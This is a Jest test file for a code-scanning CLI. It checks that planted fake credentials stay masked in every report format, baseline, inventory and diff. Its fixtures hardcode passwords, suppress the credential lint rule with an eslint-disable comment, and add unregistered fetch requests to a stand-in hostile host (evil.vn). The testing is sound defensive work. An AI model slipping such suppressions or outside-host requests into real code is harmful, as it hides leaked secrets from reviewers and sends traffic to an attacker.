import * as fs from 'node:fs';
import * as path from 'node:path';
import { runCli } from '../cli/run-cli';
import { POLICY, leaks, plantSecrets, tempDir, unregisteredFetch, writeFiles, type Planted } from './planted';

/**
 * Issue 14, item 1: no output and no written file shows a planted secret
 * (no 5-character piece of one), whatever happened to the finding that
 * flagged it: accepted by a baseline, suppressed in the code, in a file that
 * does not parse, on a line ESLint counts differently (CR-only, U+2028), or
 * never flagged at all.
 */

const planted = plantSecrets(14);

/** Source with every secret, and (when `withFetches`) an unregistered request after each. */
function source(withFetches: boolean, lineBreak = '\n'): string {
  const lines: string[] = [];
  planted.forEach((p, i) => {
    if (!p.code.length) return;
    if (i % 4 === 3) lines.push('// eslint-disable-next-line popdb/no-hardcoded-credentials -- sandbox credential, rotated (ticket 14)');
    lines.push(...p.code);
    if (withFetches) lines.push(...unregisteredFetch(i));
  });
  return `${lines.join(lineBreak)}${lineBreak}`;
}

/** Config files: a YAML that does not parse, a .env with CR-only lines. */
function configFiles(withErrors: boolean): Record<string, string> {
  const [a, b] = [planted[0].secret, planted[9].secret];
  return {
    'config/app.yaml': `db:\n  host: 10.0.0.5\n  password: ${a}\n  user: dancu_app\n${withErrors ? '  bad: [unclosed\n' : ''}`,
    'config/worker.env': [`DANCU_URL=https://lgsp-gw.evil.vn/dancu/v1/`, `DB_PASSWORD=${b}`, 'DB_USER=app', ''].join('\r'),
  };
}

function readAll(dir: string, names: string[]): Record<string, string> {
  return Object.fromEntries(names.filter((n) => fs.existsSync(path.join(dir, n))).map((n) => [n, fs.readFileSync(path.join(dir, n), 'utf8')]));
}

function expectNoLeak(outputs: Record<string, string>, secrets: readonly Planted[] = planted): void {
  expect(Object.keys(outputs).length).toBeGreaterThan(0);
  expect(leaks(outputs, secrets)).toEqual([]);
}

describe('no planted secret escapes (issue 14, item 1)', () => {
  it('baselined and suppressed credential findings stay masked in the excerpts of new findings nearby, in every format', () => {
    const dir = tempDir('leak-baseline');
    const out = tempDir('leak-out');
    writeFiles(dir, { 'popdb-policy.yaml': POLICY, 'src/secrets.ts': source(false), ...configFiles(false) });
    const first = runCli(['.', '--write-baseline', path.join(out, 'baseline.json')], dir);
    expect(first.code).toBe(1);
    // now new findings next to every accepted secret
    writeFiles(dir, { 'src/secrets.ts': source(true), ...configFiles(true) });
    const outputs: Record<string, string> = { 'first text run': first.stdout + first.stderr };
    for (const format of ['text', 'json', 'sarif', 'html']) {
      const run = runCli(['.', '--baseline', path.join(out, 'baseline.json'), '--format', format, '--output', path.join(out, `report.${format}`)], dir);
      expect(run.stderr).toBe('');
      expect(run.code).toBe(1);
      outputs[`${format} stdout`] = run.stdout;
    }
    Object.assign(outputs, readAll(out, ['baseline.json', 'report.text', 'report.json', 'report.sarif', 'report.html']));
    const html = outputs['report.html'];
    // the excerpts are there: the new findings sit next to the secrets
    expect(html).toContain('lgsp-gw0.evil.vn');
    expect(html).toContain('<code>popdb/parse-error</code> <span class="loc">config/app.yaml');
    expect(html).toContain('&#39;postgres://dancu_app:');
    expectNoLeak(outputs);
  });

  it('masks files with CR-only and U+2028/U+2029 line breaks on the lines ESLint reports', () => {
    for (const [name, lineBreak] of [
      ['cr', '\r'],
      ['ls', '\u2028'],
      ['ps', '\u2029'],
    ]) {
      const dir = tempDir(`leak-${name}`);
      writeFiles(dir, { 'popdb-policy.yaml': POLICY, [`src/${name}.ts`]: source(true, lineBreak) });
      const out = path.join(dir, 'report.html');
      const run = runCli(['.', '--format', 'html', '--output', out], dir);
      expect(run.stderr).toBe('');
      expect(run.code).toBe(1);
      const html = fs.readFileSync(out, 'utf8');
      // the hit line of the first request is the request itself, not another line
      expect(html).toMatch(/<span class="ln hit"><span class="no">\d+<\/span>  return fetch\(&#39;https:\/\/lgsp-gw0\.evil\.vn/);
      expectNoLeak({ [`${name} html`]: html, [`${name} text`]: runCli(['.'], dir).stdout });
    }
  });

  it('masks every secret when the credential rules are off (the conservative pass over the text)', () => {
    const dir = tempDir('leak-rules-off');
    writeFiles(dir, {
      'popdb-policy.yaml': `${POLICY}rules:\n  popdb/no-hardcoded-credentials: off\n  popdb/no-default-credentials: off\n`,
      'src/secrets.ts': source(true),
      ...configFiles(true),
    });
    const out = path.join(dir, 'report.html');
    const run = runCli(['.', '--format', 'html', '--output', out], dir);
    expect(run.code).toBe(1);
    const html = fs.readFileSync(out, 'utf8');
    expect(html).toContain('lgsp-gw0.evil.vn');
    expectNoLeak({ html, text: runCli(['.'], dir).stdout, json: runCli(['.', '--format', 'json'], dir).stdout });
  });

  it('shows no secret in the inventory, the approval record or the diff', () => {
    const dir = tempDir('leak-assessor');
    writeFiles(dir, { 'popdb-policy.yaml': POLICY, 'src/secrets.ts': source(true), ...configFiles(false) });
    const outputs: Record<string, string> = {};
    for (const args of [['inventory', '.'], ['inventory', '.', '--format', 'json'], ['approve', '.', '--output', 'approved.json']]) {
      const run = runCli(args, dir);
      expect(run.code).toBe(0);
      outputs[args.join(' ')] = run.stdout + run.stderr;
    }
    outputs['approved.json'] = fs.readFileSync(path.join(dir, 'approved.json'), 'utf8');
    writeFiles(dir, { 'src/more.ts': `${unregisteredFetch(99).join('\n')}\nexport const DB = 'mysql://root:${planted[0].secret}@db/x';\n` });
    for (const args of [['diff', '--approved', 'approved.json', '.'], ['diff', '--approved', 'approved.json', '.', '--format', 'json'], ['.', '--approved', 'approved.json', '--format', 'html']]) {
      const run = runCli(args, dir);
      expect(run.code).toBe(1);
      outputs[args.join(' ')] = run.stdout + run.stderr;
    }
    expect(outputs['diff --approved approved.json .']).toContain('lgsp-gw99.evil.vn');
    expectNoLeak(outputs);
  });
});
